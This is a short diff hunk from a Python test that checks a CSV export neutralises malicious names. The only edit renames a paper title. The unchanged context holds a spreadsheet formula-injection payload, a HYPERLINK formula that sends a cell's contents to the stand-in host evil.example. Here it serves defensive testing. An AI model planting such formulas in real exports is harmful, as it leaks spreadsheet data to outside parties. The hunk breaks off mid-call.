@@ -247,7 +247,7 @@ def test_page_forms_show_control_character_errors(seeded_api: Api) -> None:
 def test_csv_export_neutralises_a_malicious_name(seeded_api: Api) -> None:
     client = seeded_api.client
     admin, alice = seeded_api.user(admin=True), seeded_api.user()
-    base = paper(seeded_api, alice, "baseline")
+    base = paper(seeded_api, alice, "the base")
     set_baseline(seeded_api, admin, base)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     paper(
